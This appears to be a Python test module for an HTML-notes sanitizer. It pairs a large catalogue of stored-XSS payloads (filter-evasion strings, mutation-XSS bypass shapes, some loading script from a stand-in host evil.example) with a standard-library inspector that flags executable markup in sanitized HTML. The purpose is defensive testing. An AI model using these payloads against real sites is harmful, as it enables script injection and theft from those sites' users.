"""Stored-XSS payloads for HTML notes, and an inspector that says what in sanitized HTML could run.

The payloads come in the shapes of the OWASP XSS Filter Evasion Cheat Sheet and of published
mutation-XSS bypasses of DOMPurify and bleach (namespace confusion, `noscript` and `style`
parsing differences). The inspector parses with the standard library's `html.parser`, an
independent parser from the sanitizer's html5ever, and decodes entities in attribute values as a
browser does before reading a URL's scheme.
"""

from __future__ import annotations

from html.parser import HTMLParser

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="module">import("https://evil.example/x.js")</script>',
    "<<script>alert(1);//<</script>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=https://evil.example/x.js></script>",
    "<p>unclosed <script>alert(1)",
]
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<body onload=alert(1)>",
    "<p onclick=alert(1)>click</p>",
    "<a href=https://ok.example onmouseover=alert(1)>hover</a>",
    "<div onpointerenter=alert(1)>x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1) onmouseover=alert(1)><tr><td>x</td></tr></table>",
    "<strong/onclick=alert(1)>x</strong>",
    "<p\nonclick\n=\nalert(1)>x</p>",
    "<span onclick='alert(1)' style='position:fixed;inset:0'>x</span>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)>",
]
DANGEROUS_URLS = [
    "<a href=javascript:alert(1)>x</a>",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript&#58;msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="https://ok.example" formaction="javascript:alert(1)">x</a>',
]
EMBEDDED_DOCUMENTS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    '<p style="behavior:url(x.htc)">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<form><button formaction="javascript:alert(1)">go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<frameset onload=alert(1)>",
    '<applet code="x.class"></applet>',
    "<template><script>alert(1)</script></template>",
]
MUTATION_SHAPES = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>'
    '<img src onerror=alert(1)>"></style></h1>',
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    '<a href="https://ok.example"><img src=x onerror=alert(1)//',
    "<img src=x onerror=alert(1)//",
    '<div id="x"><a href="https://ok.example" id="location">x</a></div>',
    "<plaintext><img src=x onerror=alert(1)>",
]
PAYLOADS = SCRIPT_TAGS + EVENT_HANDLERS + DANGEROUS_URLS + EMBEDDED_DOCUMENTS + MUTATION_SHAPES

# Elements that run code, load a document or a resource, submit, or change how the page parses.
DANGEROUS_TAGS = frozenset(
    {
        *("script", "style", "iframe", "frame", "frameset", "object", "embed", "applet"),
        *("svg", "math", "form", "input", "button", "textarea", "select", "option", "meta"),
        *("base", "link", "img", "video", "audio", "source", "template", "noscript", "body"),
        *("html", "head", "title", "xmp", "plaintext", "noembed", "marquee", "details"),
    }
)
# Attributes a browser reads as a URL to fetch or navigate to.
URL_ATTRIBUTES = frozenset(
    {
        *("href", "src", "action", "formaction", "xlink:href", "data", "background", "poster"),
        *("cite", "codebase", "longdesc", "lowsrc", "dynsrc", "ping", "srcset", "content"),
    }
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
NEVER_ALLOWED_ATTRIBUTES = frozenset({"style", "srcdoc", "id", "class"})


def runnable_url(value: str) -> bool:
    """Whether a URL (entities already decoded) has a scheme outside http, https and mailto.

    Browsers drop ASCII tab and newline anywhere in a URL and control characters and spaces
    around it; dropping every one of them also catches a scheme split by them.
    """
    compact = "".join(char for char in value if char > " ").lower()
    scheme, colon, _ = compact.partition(":")
    if not colon or any(char in scheme for char in "/?#"):
        return False  # relative: no scheme of its own
    return scheme not in SAFE_SCHEMES


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        # Attribute values always arrive entity-decoded, as a browser reads them; text arrives
        # as written, so a `<` in it is markup this parser could not read, never an `&lt;`.
        super().__init__(convert_charrefs=False)
        self.findings: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.findings.append(f"<{tag}> element")
        elif not tag.isalnum():
            self.findings.append(f"malformed tag name {tag!r}")
        for name, value in attrs:
            if name.startswith("on"):
                self.findings.append(f"{name} handler on <{tag}>")
            elif name in NEVER_ALLOWED_ATTRIBUTES:
                self.findings.append(f"{name} attribute on <{tag}>")
            elif name in URL_ATTRIBUTES and value is not None and runnable_url(value):
                self.findings.append(f"{name}={value!r} on <{tag}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        # A serializer escapes every `<` of text; one left raw is an unterminated or broken tag.
        if "<" in data:
            self.findings.append(f"unparsed markup {data!r}")

    def handle_comment(self, data: str) -> None:
        self.findings.append("a comment")

    def unknown_decl(self, data: str) -> None:
        self.findings.append("a CDATA section or declaration")

    def handle_decl(self, decl: str) -> None:
        self.findings.append("a doctype")

    def handle_pi(self, data: str) -> None:
        self.findings.append("a processing instruction")


def dangers(html: str) -> list[str]:
    """What in `html` could run script, load a resource or change the page: empty when safe."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.findings
